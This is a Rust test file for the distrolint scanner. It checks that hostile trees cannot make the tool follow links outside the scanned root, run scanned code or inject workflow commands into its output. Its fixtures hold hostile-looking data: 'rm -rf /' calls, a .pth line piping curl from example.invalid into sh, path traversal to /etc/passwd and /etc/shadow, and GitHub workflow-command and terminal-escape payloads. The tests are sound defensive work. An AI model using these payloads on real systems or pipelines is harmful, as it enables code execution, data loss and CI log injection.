//! Trees that fight back, and what distrolint promises about them: a
//! `RECORD` full of garbage, files deleted (or swapped for FIFOs) while the
//! scan runs, and links pointing out of the tree — through all of which
//! distrolint reads nothing outside the scanned roots, writes nothing, and
//! executes or imports nothing it scans (docs/fuzzing.md, "What a check
//! touches").

use crate::support::hostile as support;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const BASE: &str = "python3-debian12";

fn write(root: &Path, relative: &str, bytes: &[u8]) {
    let path = root.join(relative);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

fn mkfifo(path: &Path) {
    let status = Command::new("mkfifo").arg(path).status().expect("mkfifo");
    assert!(status.success());
}

/// A `RECORD` with every kind of bad row pip never writes: one DL905 on
/// the RECORD, the rows that do read still attribute their files, and the
/// rest of the tree is checked.
#[test]
fn a_record_with_garbage_rows() {
    let tree = tempfile::tempdir().unwrap();
    let site = tree.path().join("site-packages");
    let t = site.as_path();
    write(t, "gpkg/__init__.py", b"import os\nos.system('ls')\n");
    write(t, "gpkg/other.py", b"import os\nos.system('ls')\n");
    write(
        t,
        "gpkg-1.0.dist-info/METADATA",
        b"Name: gpkg\nVersion: 1.0\n\n",
    );
    let mut record = Vec::new();
    record.extend_from_slice(b"gpkg/__init__.py,sha256=abc,27\n");
    record.extend_from_slice(b"\"gpkg/unterminated.py,sha256=,\n");
    record.extend_from_slice(b",sha256=empty-path,1\n");
    record.extend_from_slice(b"\"\",,\n");
    record.extend_from_slice(&support::pseudo_random_bytes(3, 4096));
    record.extend_from_slice(b"\n\0\0\0\n\xff\xfe\xfd,,\n");
    record.extend_from_slice(b"/etc/passwd,,\n../../../../etc/shadow,,\n");
    record.extend_from_slice(&vec![b'x'; 1024 * 1024]);
    record.extend_from_slice(b",,\n\"\"\"\"\"\n");
    record.extend_from_slice(b"gpkg/other.py,sha256=def,27\n");
    write(t, "gpkg-1.0.dist-info/RECORD", &record);
    write(t, "witness.py", b"import os\nos.system('ls')\n");

    let run = support::check(t, BASE);
    let diagnostic = run.only("gpkg-1.0.dist-info/RECORD");
    assert_eq!(diagnostic["code"], "DL905");
    assert_eq!(diagnostic["severity"], "info");
    for file in ["gpkg/__init__.py", "gpkg/other.py"] {
        let findings = &run.by_file[file];
        assert!(
            findings.iter().any(|f| f["code"] == "DL201"),
            "{file}: {findings:#?}"
        );
        assert!(
            findings.iter().all(|f| f["distribution"] == "gpkg"),
            "{file} is still gpkg's: {findings:#?}"
        );
    }
    assert!(run.codes("witness.py").contains(&"DL201".to_string()));
    assert_eq!(
        run.by_file
            .keys()
            .filter(|k| k.contains("passwd") || k.contains("shadow"))
            .count(),
        0,
        "a RECORD row naming a file outside the tree reads nothing there"
    );
    assert_eq!(run.code, 1);
}

/// Thousands of files, deleted — or replaced by a FIFO, which blocks
/// whoever opens it for reading — from another thread while the binary
/// scans them. Whatever the race gives, the run ends, the output is one
/// JSON document, no file gets more than one diagnostic, nothing is an
/// internal error, and the exit status is 0 or 1.
#[test]
fn files_deleted_or_swapped_while_scanning() {
    let scratch = tempfile::tempdir().unwrap();
    let extension = support::extension(scratch.path(), "m");
    for round in 0..3u64 {
        let tree = tempfile::tempdir().unwrap();
        let t = tree.path();
        let mut files = Vec::new();
        for i in 0..3000 {
            let relative = format!("pkg{}/mod{i}.py", i % 40);
            write(
                t,
                &relative,
                format!("import os\nos.system('ls {i}')\n").as_bytes(),
            );
            files.push(relative);
            if i % 10 == 0 {
                let relative = format!("pkg{}/_ext{i}.cpython-311-x86_64-linux-gnu.so", i % 40);
                write(t, &relative, &extension);
                files.push(relative);
            }
        }
        // Delete (or swap) files in a scattered order, starting at once.
        let mut order: Vec<usize> = (0..files.len()).collect();
        let shuffle = support::pseudo_random_bytes(round + 11, order.len() * 2);
        for i in (1..order.len()).rev() {
            let r = u16::from_le_bytes([shuffle[2 * i], shuffle[2 * i + 1]]) as usize;
            order.swap(i, r % (i + 1));
        }
        let child = support::command(t, BASE)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("run distrolint");
        let root = t.to_path_buf();
        let victims: Vec<PathBuf> = order
            .iter()
            .take(2000)
            .map(|&i| root.join(&files[i]))
            .collect();
        let saboteur = std::thread::spawn(move || {
            for (n, path) in victims.iter().enumerate() {
                let _ = std::fs::remove_file(path);
                if n % 3 == 0 {
                    let _ = Command::new("mkfifo").arg(path).status();
                }
                if n % 500 == 499 {
                    // Whole directories too, now and then.
                    if let Some(dir) = path.parent() {
                        let _ = std::fs::remove_dir_all(dir);
                    }
                }
            }
        });
        let output = wait_with_deadline(child, Duration::from_secs(300));
        saboteur.join().unwrap();
        let run = support::read_run(t, output);
        for (file, findings) in &run.by_file {
            let scan: Vec<_> = findings.iter().filter(|f| f["family"] == "scan").collect();
            assert!(scan.len() <= 1, "{file}: {scan:#?}");
            assert!(
                scan.iter().all(|f| f["code"] != "DL900"),
                "{file}: an internal error: {scan:#?}"
            );
        }
    }
}

/// Libraries truncated in place while they are read, as a reinstall
/// rewriting them does. Were ELF files memory-mapped, touching a mapped page
/// past a file's new end would raise SIGBUS and kill the process (exit
/// status 135); they are read by positioned reads instead.
#[test]
fn libraries_truncated_while_they_are_read() {
    let scratch = tempfile::tempdir().unwrap();
    let functions: String = (0..20_000)
        .map(|i| format!("int f{i}(int x) {{ return x * {i}; }}\n"))
        .collect();
    let library = support::cc(scratch.path(), "big.so", &functions, &["-shared", "-fPIC"]);
    for _ in 0..3 {
        let tree = tempfile::tempdir().unwrap();
        let t = tree.path();
        let paths: Vec<PathBuf> = (0..300).map(|i| t.join(format!("lib{i:03}.so"))).collect();
        for path in &paths {
            std::fs::write(path, &library).unwrap();
        }
        let child = support::command(t, BASE)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(200));
        for path in paths.iter().rev() {
            let _ = std::fs::OpenOptions::new()
                .write(true)
                .open(path)
                .and_then(|f| f.set_len(100));
        }
        support::read_run(t, wait_with_deadline(child, Duration::from_secs(300)));
    }
}

/// Waits for `child`, killing it (and failing) past `deadline`: a scan
/// that opened a FIFO would wait for a writer forever.
fn wait_with_deadline(mut child: std::process::Child, deadline: Duration) -> std::process::Output {
    let started = Instant::now();
    let mut stdout = child.stdout.take().unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let out = std::thread::spawn(move || {
        let mut buf = Vec::new();
        std::io::Read::read_to_end(&mut stdout, &mut buf).unwrap();
        buf
    });
    let err = std::thread::spawn(move || {
        let mut buf = Vec::new();
        std::io::Read::read_to_end(&mut stderr, &mut buf).unwrap();
        buf
    });
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("distrolint did not finish within {deadline:?}: it is blocked (a FIFO opened?)");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    std::process::Output {
        status,
        stdout: out.join().unwrap(),
        stderr: err.join().unwrap(),
    }
}

/// What lies outside the scanned root, reached only through links: a FIFO
/// (opening it would block the scan), a Python file and a library that
/// would give findings, and a directory of both.
fn outside_world(outside: &Path, scratch: &Path) {
    mkfifo(&outside.join("fifo"));
    write(outside, "evil.py", b"import os\nos.system('rm -rf /')\n");
    write(
        outside,
        "dir/evil.py",
        b"import os\nos.system('rm -rf /')\n",
    );
    mkfifo(&outside.join("dir/fifo.py"));
    let library = support::cc(
        scratch,
        "libout.so.1",
        "int out(void) { return 1; }\n",
        &["-shared", "-fPIC", "-Wl,-soname,libout.so.1"],
    );
    write(outside, "libout.so.1", &library);
    let host_only = support::cc(
        scratch,
        "libhostonly.so.1",
        "int host_only(void) { return 1; }\n",
        &["-shared", "-fPIC", "-Wl,-soname,libhostonly.so.1"],
    );
    write(outside, "hostlib/libhostonly.so.1", &host_only);
}

/// A tree whose links point out of it, in every way a link can, beside
/// files that would run code if anything imported or executed them.
fn linked_tree(t: &Path, outside: &Path, scratch: &Path) {
    let link = |target: &Path, at: &str| {
        let path = t.join(at);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, path).unwrap();
    };
    link(&outside.join("fifo"), "app/fifo.py");
    link(&outside.join("fifo"), "app/libfifo.so.1");
    link(&outside.join("evil.py"), "app/evil.py");
    link(&outside.join("dir"), "app/outside_dir");
    link(&outside.join("libout.so.1"), "pkg.libs/libout.so.1");
    link(
        Path::new("../../../../../../../../etc/passwd"),
        "app/passwd.py",
    );
    link(Path::new("/usr/lib"), "pkg.libs/system");
    // An extension that needs the linked library, and one that only a
    // directory of this host holds, with a RUNPATH naming that directory,
    // the host's library directories and a climb out of the tree.
    let needs = support::HandElf {
        needed: vec![
            "libout.so.1".into(),
            "libhostonly.so.1".into(),
            "libc.so.6".into(),
        ],
        runpath: Some(format!(
            "$ORIGIN/../pkg.libs:$ORIGIN/../pkg.libs/system:{}:/usr/lib/x86_64-linux-gnu:$ORIGIN/../../../../../../usr/lib",
            outside.join("hostlib").display()
        )),
        ..Default::default()
    };
    write(
        t,
        "pkg/_native.cpython-311-x86_64-linux-gnu.so",
        &needs.bytes(),
    );

    // Code that leaves a mark if it ever runs: on import, as a program, as
    // a `.pth` line (site.py executes those), as a library constructor.
    let marker = outside.join("executed");
    let python_mark = format!(
        "import pathlib\npathlib.Path({:?}).write_text('ran')\n",
        marker.display().to_string()
    );
    for file in [
        "app/setup.py",
        "app/conftest.py",
        "app/sitecustomize.py",
        "app/__init__.py",
        "app/__main__.py",
    ] {
        write(t, file, python_mark.as_bytes());
    }
    write(
        t,
        "site-packages/mark.pth",
        format!(
            "import pathlib; pathlib.Path({:?}).write_text('pth')\n",
            marker.display().to_string()
        )
        .as_bytes(),
    );
    write(
        t,
        "bin/tool",
        format!("#!/bin/sh\necho ran > {}\n", marker.display()).as_bytes(),
    );
    std::fs::set_permissions(
        t.join("bin/tool"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let constructor = support::cc(
        scratch,
        "_ctor.so",
        &format!(
            "#include <stdio.h>\n__attribute__((constructor)) static void mark(void) {{ FILE *f = fopen({:?}, \"w\"); if (f) fclose(f); }}\nvoid *PyInit__ctor(void) {{ return 0; }}\n",
            marker.display().to_string()
        ),
        &["-shared", "-fPIC"],
    );
    write(t, "pkg/_ctor.cpython-311-x86_64-linux-gnu.so", &constructor);
}

/// A snapshot of every entry under `root`: type, size, mode, modification
/// time and contents of regular files.
fn snapshot(root: &Path) -> BTreeMap<PathBuf, (String, u64, u32, i64, Vec<u8>)> {
    use std::os::unix::fs::MetadataExt;
    let mut out = BTreeMap::new();
    let mut pending = vec![root.to_path_buf()];
    while let Some(dir) = pending.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let kind = format!("{:?}", meta.file_type());
            let contents = if meta.is_file() {
                std::fs::read(&path).unwrap()
            } else if meta.file_type().is_symlink() {
                std::fs::read_link(&path)
                    .unwrap()
                    .into_os_string()
                    .into_encoded_bytes()
            } else {
                Vec::new()
            };
            if meta.is_dir() {
                pending.push(path.clone());
            }
            out.insert(
                path,
                (kind, meta.len(), meta.mode(), meta.mtime(), contents),
            );
        }
    }
    out
}

/// Links out of the tree are not followed, nothing is run or imported, and
/// the tree is left exactly as it was. The FIFOs outside would block a
/// scan that opened them, so merely finishing shows they were not opened.
#[test]
fn links_out_of_the_tree_are_not_followed_and_nothing_runs_or_changes() {
    let scratch = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let tree = tempfile::tempdir().unwrap();
    let t = tree.path();
    outside_world(outside.path(), scratch.path());
    linked_tree(t, outside.path(), scratch.path());
    let before = snapshot(t);
    let outside_before = snapshot(outside.path());

    let child = support::command(t, BASE)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let run = support::read_run(t, wait_with_deadline(child, Duration::from_secs(120)));

    for (file, findings) in &run.by_file {
        for finding in findings {
            let message = finding["message"].as_str().unwrap_or_default();
            assert!(
                !message.contains("rm -rf"),
                "{file}: code outside the tree was read: {finding:#?}"
            );
        }
    }
    for link in [
        "app/fifo.py",
        "app/libfifo.so.1",
        "app/evil.py",
        "app/passwd.py",
    ] {
        assert!(
            !run.by_file.contains_key(link),
            "{link}: {:#?}",
            run.by_file.get(link)
        );
    }
    // The extension needs libout.so.1, which only a link out of the tree
    // provides, and libhostonly.so.1, which only a directory of this host
    // has: the image will have neither, and the host was not searched.
    let native = &run.by_file["pkg/_native.cpython-311-x86_64-linux-gnu.so"];
    let missing: Vec<&str> = native
        .iter()
        .filter(|f| f["code"] == "DL101")
        .filter_map(|f| f["library"].as_str())
        .collect();
    assert!(missing.contains(&"libout.so.1"), "{native:#?}");
    assert!(missing.contains(&"libhostonly.so.1"), "{native:#?}");
    assert!(
        !outside.path().join("executed").exists(),
        "scanned code ran"
    );
    assert_eq!(snapshot(t), before, "the scanned tree changed");
    assert_eq!(snapshot(outside.path()), outside_before);
}

/// The same tree under `strace`: after the program has started, every file
/// opened is inside the scanned root, nothing is opened for writing, no
/// link of the tree is opened, and no program is executed. Skipped (with a
/// note) where strace is not installed.
#[test]
fn under_strace_nothing_outside_the_root_is_opened() {
    if Command::new("strace").arg("-V").output().is_err() {
        eprintln!("strace is not installed; skipping the syscall trace");
        return;
    }
    let scratch = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let tree = tempfile::tempdir().unwrap();
    let t = tree.path();
    outside_world(outside.path(), scratch.path());
    linked_tree(t, outside.path(), scratch.path());
    let log = scratch.path().join("trace");
    let mut command = Command::new("strace");
    command
        .args(["-f", "-qq", "-e", "trace=open,openat,openat2,creat,execve,execveat,rename,renameat,renameat2,unlink,unlinkat,mkdir,mkdirat,truncate,symlink,symlinkat,link,linkat,chmod,fchmodat", "-o"])
        .arg(&log)
        .arg(env!("CARGO_BIN_EXE_distrolint"))
        .args(["check", "--format", "json", "--isolated", "--base", BASE])
        .arg(t)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = command.spawn().unwrap();
    let output = wait_with_deadline(child, Duration::from_secs(120));
    assert!(
        output.status.code().is_some_and(|c| c == 0 || c == 1),
        "{:?}: {}",
        output.status,
        String::from_utf8_lossy(&output.stderr)
    );
    let trace = std::fs::read_to_string(&log).unwrap();
    let root = t.to_string_lossy().into_owned();
    let links: Vec<String> = snapshot(t)
        .into_keys()
        .filter(|path| path.is_symlink())
        .map(|path| path.to_string_lossy().into_owned())
        .collect();
    assert!(!links.is_empty());
    let mut started = false;
    let mut problems = Vec::new();
    for line in trace.lines() {
        // A call split across threads is logged twice: once with its
        // arguments (`<unfinished ...>`), once with its result.
        if line.contains("resumed>") {
            continue;
        }
        let call = line
            .split_once(' ')
            .map(|(_, rest)| rest.trim_start())
            .unwrap_or(line);
        let syscall = call.split('(').next().unwrap_or_default();
        if syscall.starts_with("execve") {
            if started {
                problems.push(format!("executed: {call}"));
            }
            continue;
        }
        let path = call.split('"').nth(1).unwrap_or_default().to_string();
        if !started {
            // Startup ends where the scan begins: the first look at the
            // root. Before it, only the dynamic loader and the standard
            // library open their files.
            started = path.starts_with(&root);
            if !started {
                continue;
            }
        }
        if syscall.starts_with("open") || syscall == "creat" {
            let writes = ["O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC"]
                .iter()
                .any(|flag| call.contains(flag));
            let allowed =
                path.starts_with(&root) || path.starts_with("/proc/") || path.starts_with("/sys/");
            if !allowed {
                problems.push(format!("opened outside the root: {call}"));
            }
            if writes {
                problems.push(format!("opened for writing: {call}"));
            }
            if links.contains(&path) {
                problems.push(format!("opened a link of the tree: {call}"));
            }
        } else {
            problems.push(format!("changed the file system: {call}"));
        }
    }
    assert!(started, "the trace never reached the root:\n{trace}");
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// A dependency's RECORD that names the application's own file: the file
/// stays the application's, so `--scope app` still reports it.
#[test]
fn a_record_row_leaving_the_installation_does_not_claim_the_applications_file() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "app/m.py", b"import os\nos.system(\"x\")\n");
    let dist_info = ".venv/lib/python3.11/site-packages/evil-1.0.dist-info";
    write(
        root,
        &format!("{dist_info}/METADATA"),
        b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    );
    write(
        root,
        &format!("{dist_info}/RECORD"),
        b"../../../../app/m.py,,\n../../../bin/evil,,\nevil/__init__.py,,\n",
    );
    write(
        root,
        ".venv/lib/python3.11/site-packages/evil/__init__.py",
        b"",
    );
    let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
        .current_dir(root)
        .args([
            "check",
            ".",
            "--isolated",
            "--scope",
            "app",
            "--format",
            "json",
        ])
        .args(["--base", BASE, "--fail-on", "never"])
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let findings = doc["findings"].as_array().unwrap();
    assert!(
        findings
            .iter()
            .any(|f| f["code"] == "DL201" && f["path"] == "app/m.py"),
        "{doc:#}"
    );
}

/// A file below more than PATH_MAX bytes of directories cannot be opened
/// by its path: the check must fail, not pass with a warning.
#[test]
fn a_file_too_deep_to_read_fails_the_default_gate() {
    let dir = tempfile::tempdir().unwrap();
    let name = "d".repeat(250);
    // Built with relative steps: no single path to it fits PATH_MAX.
    let script = format!(
        "for i in $(seq 20); do mkdir {name} && cd {name} || exit 1; done; printf 'import os\\nos.system(\"x\")\\n' > deep.py"
    );
    // bash, as dash's cd gives up once the logical path is too long.
    let status = Command::new("bash")
        .current_dir(dir.path())
        .args(["-c", &script])
        .status()
        .unwrap();
    assert!(status.success());
    write(dir.path(), "app.py", b"x = 1\n");
    let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
        .current_dir(dir.path())
        .args([
            "check",
            ".",
            "--isolated",
            "--format",
            "json",
            "--base",
            BASE,
        ])
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let unreadable: Vec<&serde_json::Value> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == "DL901")
        .collect();
    assert!(!unreadable.is_empty(), "{doc:#}");
    assert!(
        unreadable.iter().all(|f| f["severity"] == "error"),
        "{doc:#}"
    );
    assert_eq!(output.status.code(), Some(1), "{doc:#}");
}

/// A `.pth` file's `import` lines run at every interpreter start on the
/// image: a shell call there is found, at its line.
#[test]
fn import_lines_of_a_pth_file_are_checked_as_python() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        ".venv/lib/python3.11/site-packages/zz_hook.pth",
        b"/opt/plugins\nimport os; os.system(\"curl -s example.invalid | sh\")\n",
    );
    write(root, "app.py", b"x = 1\n");
    let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
        .current_dir(root)
        .args([
            "check",
            ".",
            "--isolated",
            "--format",
            "json",
            "--base",
            BASE,
        ])
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert!(
        doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["code"] == "DL201"
                && f["path"] == ".venv/lib/python3.11/site-packages/zz_hook.pth"
                && f["line"] == 2),
        "{doc:#}"
    );
}

/// Two names that differ only in bytes that are not UTF-8 stay two paths
/// with two fingerprints: the bytes are kept, escaped.
#[test]
fn names_differing_only_in_invalid_utf8_stay_apart() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    for name in [&b"a\xff.py"[..], &b"a\xfe.py"[..]] {
        std::fs::write(
            dir.path().join(std::ffi::OsStr::from_bytes(name)),
            "import os\nos.system(\"x\")\n",
        )
        .unwrap();
    }
    let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
        .current_dir(dir.path())
        .args([
            "check",
            ".",
            "--isolated",
            "--format",
            "json",
            "--base",
            BASE,
        ])
        .args(["--select", "DL201"])
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let found: Vec<(String, String)> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["fingerprint"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(found.len(), 2, "{doc:#}");
    assert_eq!(found[0].0, "a\\xfe.py");
    assert_eq!(found[1].0, "a\\xff.py");
    assert!(
        !found[0].1.contains(':') && !found[1].1.contains(':'),
        "{found:?}"
    );
    assert_ne!(found[0].1, found[1].1);
}

/// The control characters a hostile tree plants in its text, each with the
/// harm it could do written raw: a line end the GitHub runner honours
/// (`\r` alone too), a terminal escape (ESC, and the one-byte C1 CSI), a
/// DEL, a bidi override and a Unicode line separator.
const PLANTED: &[(&str, char)] = &[
    ("cr", '\r'),
    ("lf", '\n'),
    ("esc", '\u{1b}'),
    ("csi", '\u{9b}'),
    ("del", '\u{7f}'),
    ("rlo", '\u{202e}'),
    ("ls", '\u{2028}'),
];

/// A tree whose every kind of scanned text carries `c` before a workflow
/// command: a file name, a string literal (the program run), a METADATA
/// `Name:`, a `DT_NEEDED` name and a Dockerfile instruction.
fn injecting_tree(root: &Path, c: char) {
    let inject = |what: &str| format!("{what}{c}::error file=x.py,line=1::INJECTED{c}\u{1b}[2J");
    let app = root.join("app");
    std::fs::create_dir_all(&app).unwrap();
    // A file name cannot hold `/` or NUL; everything else goes.
    std::fs::write(
        app.join(format!("a{c}::add-mask::X{c}.py")),
        "import os\nos.system('ls')\n",
    )
    .unwrap();
    // The program's name is the literal's value, spelled with Python
    // escapes; the comment on the flagged line holds the character raw, so
    // the snippet shows it too.
    let python_escape = format!("\\U{:08x}", c as u32);
    std::fs::write(
        app.join("literal.py"),
        format!(
            "import subprocess\nsubprocess.run(['p{python_escape}::error file=x.py,line=1::INJECTED', '-l'])  # {c}::error::RAW{c}\u{1b}]0;title\u{7}\n"
        ),
    )
    .unwrap();
    let site = root.join("venv/lib/python3.11/site-packages");
    let name = inject("evil");
    write(
        &site,
        "evil-1.0.dist-info/METADATA",
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0{c}::warning::V\n\n").as_bytes(),
    );
    write(
        &site,
        "evil-1.0.dist-info/RECORD",
        b"evil/__init__.py,,\nevil/_x.cpython-311-x86_64-linux-gnu.so,,\n",
    );
    write(&site, "evil/__init__.py", b"import os\nos.system('ls')\n");
    let elf = support::HandElf {
        needed: vec![inject("lib") + ".so.1", "libc.so.6".into()],
        ..Default::default()
    };
    write(
        &site,
        "evil/_x.cpython-311-x86_64-linux-gnu.so",
        &elf.bytes(),
    );
    write(
        root,
        "Dockerfile",
        format!(
            "FROM gcr.io/distroless/python3-debian12\nENTRYPOINT {}\n",
            inject("python3 /app/run.py")
        )
        .as_bytes(),
    );
}

/// Whether `line` is one the runner would take as a workflow command,
/// which it looks for after leading whitespace.
fn is_workflow_command(line: &str) -> bool {
    line.trim_start().starts_with("::")
}

/// Whether some string in `value` satisfies `test`.
fn any_string(value: &serde_json::Value, test: &dyn Fn(&str) -> bool) -> bool {
    match value {
        serde_json::Value::String(s) => test(s),
        serde_json::Value::Array(items) => items.iter().any(|v| any_string(v, test)),
        serde_json::Value::Object(map) => map.values().any(|v| any_string(v, test)),
        _ => false,
    }
}

/// What no display output may hold raw.
fn raw_control(text: &str) -> Option<char> {
    text.chars().find(|&c| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
    })
}

/// Each control character, planted in each kind of scanned text, goes
/// through each format. The human report and standard error show it as a
/// visible escape, and never let the text after it start a line; the
/// GitHub format writes one workflow command per finding and nothing else;
/// the JSON formats keep the text exactly, and write the characters a
/// terminal or viewer could act on as `\u` escapes.
#[test]
fn scanned_text_cannot_inject_workflow_commands_or_terminal_escapes() {
    for (label, c) in PLANTED {
        let tree = tempfile::tempdir().unwrap();
        injecting_tree(tree.path(), *c);
        let run = |format: &str| {
            let output = Command::new(env!("CARGO_BIN_EXE_distrolint"))
                .current_dir(tree.path())
                .args([
                    "check",
                    ".",
                    "--isolated",
                    "--base",
                    BASE,
                    "--format",
                    format,
                ])
                .env("NO_COLOR", "1")
                .output()
                .expect("run distrolint");
            assert_eq!(output.status.code(), Some(1), "{label} {format}");
            (
                String::from_utf8(output.stdout).expect("UTF-8 output"),
                String::from_utf8(output.stderr).expect("UTF-8 errors"),
            )
        };

        let (human, stderr) = run("human");
        for text in [&human, &stderr] {
            assert_eq!(raw_control(text), None, "{label}: human:\n{text}");
            for line in text.lines() {
                assert!(!is_workflow_command(line), "{label}: human line {line:?}");
            }
        }
        // Every source of text was reported, escaped where it kept the
        // character (METADATA and Dockerfile lines end at a newline).
        for shown in [
            "add-mask::X\\",
            "p\\",
            "evil",
            "lib\\",
            "python3 /app/run.py",
        ] {
            assert!(human.contains(shown), "{label}: {shown} missing:\n{human}");
        }

        let (github, _) = run("github");
        assert_eq!(raw_control(&github), None, "{label}: github:\n{github}");
        for line in github.lines() {
            assert!(
                ["::error ", "::warning ", "::notice "]
                    .iter()
                    .any(|command| line.starts_with(command)),
                "{label}: a line that is not one annotation: {line:?}"
            );
            let message = &line[line.find("::").unwrap() + 2..];
            let message = &message[message.find("::").unwrap() + 2..];
            assert!(!message.contains('\u{1b}'), "{label}: {line:?}");
        }

        for format in ["json", "sarif", "gitlab"] {
            let (document, _) = run(format);
            // Every control, bidi and separator character is a \u escape
            // in the file, and the parsed text is the scanned text exactly.
            assert_eq!(raw_control(&document), None, "{label}: {format}");
            let value: serde_json::Value = serde_json::from_str(&document).unwrap();
            // SARIF holds the path as a URI, percent-encoded.
            let kept = if format == "sarif" {
                let mut utf8 = [0; 4];
                c.encode_utf8(&mut utf8)
                    .bytes()
                    .fold("add-mask::X".to_string(), |s, b| s + &format!("%{b:02X}"))
            } else {
                format!("::add-mask::X{c}")
            };
            assert!(
                any_string(&value, &|s| s.contains(&kept)),
                "{label}: {format} keeps the path exactly ({kept})"
            );
        }
    }
}
